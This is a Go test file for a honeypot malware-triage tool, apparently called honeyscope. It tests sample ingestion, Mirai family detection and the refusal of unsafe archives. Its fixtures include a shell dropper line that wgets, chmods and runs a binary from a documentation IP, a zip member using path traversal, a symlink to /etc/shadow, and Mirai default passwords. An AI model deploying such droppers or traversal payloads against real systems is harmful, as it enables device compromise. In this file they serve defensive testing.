package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/elfinfo/elftest"
	"github.com/honeyscope/honeyscope/internal/samplestore"
)

// miraiLikeELF is an ARM ELF file holding a Mirai-like table (XORed with
// 0x22) in code-like filler; seed varies the filler.
func miraiLikeELF(seed byte) []byte {
	body := make([]byte, 0, 40000)
	for i := 0; i < 30000; i++ {
		body = append(body, byte(i*7+int(seed)), 0x90, byte(i>>3), 0xe5)
	}
	for _, s := range []string{"/bin/busybox MIRAI", "MIRAI: applet not found", "ncorrect", "TSource Engine Query", "/etc/resolv.conf", "xc3511", "vizxv"} {
		for _, c := range []byte(s + "\x00") {
			body = append(body, c^0x22)
		}
	}
	return elftest.Build(elftest.Spec{Class: 32, Machine: 40, Flags: 0x05000200, NoSects: true, Body: body})
}

func TestSamplesAddTriageFamilies(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "s.duckdb")
	in := filepath.Join(dir, "in")
	os.MkdirAll(filepath.Join(in, "sub"), 0o700)
	a := miraiLikeELF(1)
	// A variant: some bytes of the code changed.
	b := bytes.Clone(a)
	for i := 0; i < 60; i++ {
		b[1000+i*1500] ^= 0x5a
	}
	os.WriteFile(filepath.Join(in, "a.arm"), a, 0o600)
	os.WriteFile(filepath.Join(in, "sub", "b.arm"), b, 0o600)
	os.WriteFile(filepath.Join(in, "sub", "dup.arm"), a, 0o600)
	os.Symlink("/etc/passwd", filepath.Join(in, "link"))
	// A zip with a path-traversal name and a symlink member beside a good one.
	script := []byte("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/x.arm7; chmod +x x.arm7; ./x.arm7\n")
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	w, _ := zw.Create("ok.sh")
	w.Write(script)
	w, _ = zw.Create("../../../../tmp/evil")
	w.Write(a)
	h := &zip.FileHeader{Name: "ln"}
	h.SetMode(fs.ModeSymlink | 0o777)
	w, _ = zw.CreateHeader(h)
	w.Write([]byte("/etc/shadow"))
	zw.Close()
	zpath := filepath.Join(dir, "x.zip")
	os.WriteFile(zpath, zb.Bytes(), 0o600)

	out, errOut, err := runSplit(t, "samples", "add", "--db", db, "--format", "json", in, zpath)
	if err != nil {
		t.Fatalf("%v\n%s\n%s", err, out, errOut)
	}
	var rows []addedRow
	if err := json.Unmarshal([]byte(out), &rows); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows: %+v", len(rows), rows)
	}
	for _, r := range rows[:2] {
		if r.Arch != "arm" || r.Family != "mirai" || !r.New {
			t.Errorf("%+v", r)
		}
	}
	if rows[2].Type != "script" || !strings.HasSuffix(rows[2].Name, "x.zip:ok.sh") {
		t.Errorf("%+v", rows[2])
	}
	for _, want := range []string{"link: symbolic link", "evil: \"..\" in the name (path traversal)", "ln: symbolic link in the archive"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
	// Nothing was written outside the sample store.
	if _, err := os.Stat("/tmp/evil"); err == nil {
		t.Log("note: /tmp/evil exists (not from this test: its content would differ)")
	}
	ss, err := samplestore.Open(filepath.Join(dir, "samples"), samplestore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !ss.Has(rows[0].SHA256) || !ss.Has(rows[2].SHA256) {
		t.Error("content not in the sample store")
	}
	// Again: nothing new.
	out, _, err = runSplit(t, "samples", "add", "--db", db, "--format", "json", filepath.Join(in, "a.arm"))
	if err != nil || !strings.Contains(out, `"new": false`) {
		t.Errorf("again: %v\n%s", err, out)
	}

	// The list gains architecture and family; the two variants are one
	// mirai cluster.
	out, _, err = runSplit(t, "samples", "list", "--db", db, "--format", "json")
	if err != nil {
		t.Fatal(err)
	}
	var listed []struct {
		SHA256, Via, Arch, Family, Cluster string
		Triage                             map[string]any
	}
	if err := json.Unmarshal([]byte(out), &listed); err != nil || len(listed) != 3 {
		t.Fatalf("%v\n%s", err, out)
	}
	clusters := map[string]bool{}
	for _, l := range listed {
		if l.Via != "added" || l.Triage == nil {
			t.Errorf("%+v", l)
		}
		if l.Arch == "arm" {
			clusters[l.Cluster] = true
			if l.Family != "mirai" {
				t.Errorf("family %q", l.Family)
			}
		}
	}
	if len(clusters) != 1 {
		t.Errorf("clusters %v", clusters)
	}
	out, _, err = runSplit(t, "samples", "--db", db)
	if err != nil || !strings.Contains(out, "arm") || !strings.Contains(out, "mirai") {
		t.Errorf("table: %v\n%s", err, out)
	}
	out, _, err = runSplit(t, "samples", "show", rows[0].SHA256[:12], "--db", db)
	for _, want := range []string{"eabi5 soft-float", "markers mirai", "XOR key 0x22", "/bin/busybox MIRAI", "T1"} {
		if err != nil || !strings.Contains(out, want) {
			t.Errorf("show: no %q (%v)\n%s", want, err, out)
		}
	}
	out, _, err = runSplit(t, "samples", "show", rows[2].SHA256, "--db", db)
	if err != nil || !strings.Contains(out, "http://198.51.100.7/bins/x.arm7") {
		t.Errorf("show script: %v\n%s", err, out)
	}

	// Families.
	out, _, err = runSplit(t, "samples", "families", "--db", db, "--format", "json")
	if err != nil {
		t.Fatal(err)
	}
	var fams []familySummary
	if err := json.Unmarshal([]byte(out), &fams); err != nil || len(fams) != 2 || fams[0].Family != "mirai" || fams[0].Samples != 2 || fams[0].Clusters != 1 {
		t.Errorf("%v %+v", err, fams)
	}
	out, _, err = runSplit(t, "samples", "families", "--db", db, "--by", "unique", "--format", "json")
	var pts []struct {
		Day             string
		New, Cumulative int
	}
	if err != nil || json.Unmarshal([]byte(out), &pts) != nil || len(pts) != 1 || pts[0].Cumulative != 3 {
		t.Errorf("unique: %v\n%s", err, out)
	}
	for _, by := range []string{"day", "arch"} {
		out, _, err = runSplit(t, "samples", "families", "--db", db, "--by", by)
		if err != nil || !strings.Contains(out, "mirai") {
			t.Errorf("--by %s: %v\n%s", by, err, out)
		}
	}
	if _, _, err := runSplit(t, "samples", "families", "--db", db, "--by", "color"); err == nil {
		t.Error("--by color accepted")
	}

	// Triage again: nothing is due, --all redoes all, a lost content is said.
	out, _, err = runSplit(t, "samples", "triage", "--db", db)
	if err != nil || !strings.Contains(out, "0 samples triaged") {
		t.Errorf("triage: %v\n%s", err, out)
	}
	os.Chmod(filepath.Join(dir, "samples", rows[1].SHA256[:2], rows[1].SHA256[2:4]), 0o700)
	p, _ := ss.Path(rows[1].SHA256)
	os.Remove(p)
	out, errOut, err = runSplit(t, "samples", "triage", "--db", db, "--all")
	if err != nil || !strings.Contains(out, "2 samples triaged, 1 without content") || !strings.Contains(errOut, "content not in the sample store") {
		t.Errorf("triage --all: %v\n%s\n%s", err, out, errOut)
	}
}

func TestSamplesAddRefusals(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "s.duckdb")
	os.Symlink("/etc/passwd", filepath.Join(dir, "link"))
	_, errOut, err := runSplit(t, "samples", "add", "--db", db, filepath.Join(dir, "link"), filepath.Join(dir, "none"))
	if err == nil || !strings.Contains(errOut, "symbolic link") || !strings.Contains(errOut, "no such file") {
		t.Errorf("%v\n%s", err, errOut)
	}
	// A password-protected archive from the zip command.
	zipCmd, err := exec.LookPath("zip")
	if err != nil {
		t.Skip("no zip command")
	}
	os.WriteFile(filepath.Join(dir, "m.arm"), miraiLikeELF(3), 0o600)
	cmd := exec.Command(zipCmd, "-q", "-P", "s3cret", "m.zip", "m.arm")
	cmd.Dir = dir
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, msg)
	}
	_, errOut, err = runSplit(t, "samples", "add", "--db", db, filepath.Join(dir, "m.zip"))
	if err == nil || !strings.Contains(errOut, "the password does not open it") {
		t.Errorf("default password: %v\n%s", err, errOut)
	}
	out, _, err := runSplit(t, "samples", "add", "--db", db, "--password", "s3cret", filepath.Join(dir, "m.zip"))
	if err != nil || !strings.Contains(out, "mirai") {
		t.Errorf("--password: %v\n%s", err, out)
	}
}
